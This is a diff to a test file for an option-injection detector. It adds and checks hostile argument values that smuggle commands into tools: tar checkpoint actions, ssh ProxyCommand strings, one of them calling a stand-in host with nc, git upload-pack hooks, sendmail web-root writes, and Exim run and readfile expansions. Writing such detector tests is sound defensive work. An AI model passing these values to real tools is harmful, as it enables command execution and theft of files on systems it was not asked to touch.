@@ -10,7 +10,7 @@ describe("option-injection analyzer: a value that is a tool's options", () => {
       "--checkpoint=1 --checkpoint-action=exec=sh shell.sh", "-oProxyCommand=sh -c 'id'", "-o ProxyCommand=nc 198.51.100.7 4444", '-o "ProxyCommand sh -c id"',
       "--upload-pack=touch /tmp/pwned", "--to-command=id", "-c core.sshCommand=id", "-exec sh -c id ;", "--use-compress-program=sh x.sh", " -TT=id",
       // a blank for `=`, getopt_long's abbreviations, an interpreter for -e
-      "--checkpoint-action exec=sh x", "--upload-pack touch /tmp/x", "--checkpoint-act=exec=sh x", "--to-comm=id", "-e 'python -c import os'", "-e sh", "-e sh -v", "-c protocol.ext.allow=always", "--exec=id", "--exec /bin/sh -c id", "-e /bin/sh", "-e/usr/bin/bash", "x -exec id ;",
+      "--checkpoint-action exec=sh x", "--upload-pack touch /tmp/x", "--checkpoint-act=exec=sh x", "--to-comm=id", "-e 'python -c import os'", "-e sh", "-e sh -v", "-c protocol.ext.allow=always", "--exec=id", "--exec /bin/sh -c id", "-e /bin/sh", "-e/usr/bin/bash", "x -exec id ;", "-e cmd.exe", "-c /bin/sh", '--sh-exec "/bin/sh"',
     ]) {
       expect([v, strongest(optionInjectionAnalyzer, v)?.rule]).toEqual([v, "options.runs-command"]);
       expect(s(v)).toBe(0.9);
@@ -23,13 +23,19 @@ describe("option-injection analyzer: a value that is a tool's options", () => {
     }
   });
 
+  test("a value that opens with a tool's own name is a command line quoted (help text, a forum), the shell analyzer's", () => {
+    for (const v of ['git -c core.sshCommand="ssh -i ~/.ssh/key" clone x', "tar --use-compress-program=pigz -cf b.tgz data", 'rsync --rsh="ssh -p 2222" ./a/ b:/srv/', 'ssh -o ProxyCommand="ssh -W %h:%p bastion" app01', "/usr/bin/git -c core.pager=less log"]) {
+      expect([v, strongest(optionInjectionAnalyzer, v)]).toEqual([v, null]);
+    }
+  });
+
   test("options after the one token a tool was given: sendmail's address, find's name", () => {
     expect(strongest(optionInjectionAnalyzer, "a@b.c -X/var/www/html/x.php -OQueueDirectory=/tmp")?.rule).toBe("options.moves-file");
     expect(strongest(optionInjectionAnalyzer, "-write /var/www/html/x.php")?.rule).toBe("options.moves-file");
   });
 
   test("Exim's expansion that runs a program, wherever it stands", () => {
-    for (const v of ["${run{/bin/sh -c 'id'}}", "-be ${run{/bin/bash -c id}}", "x@y.z ${RUN {/usr/bin/id}}"]) expect([v, strongest(optionInjectionAnalyzer, v)?.rule]).toEqual([v, "options.exim-run"]);
+    for (const v of ["${run{/bin/sh -c 'id'}}", "-be ${run{/bin/bash -c id}}", "x@y.z ${RUN {/usr/bin/id}}", "${readfile{/etc/passwd}}", "${ run{/bin/id}}"]) expect([v, strongest(optionInjectionAnalyzer, v)?.rule]).toEqual([v, "options.exim-run"]);
     for (const v of ["${running}", "${runtime.version}", "run{x}"]) expect([v, strongest(optionInjectionAnalyzer, v)]).toEqual([v, null]);
   });
 
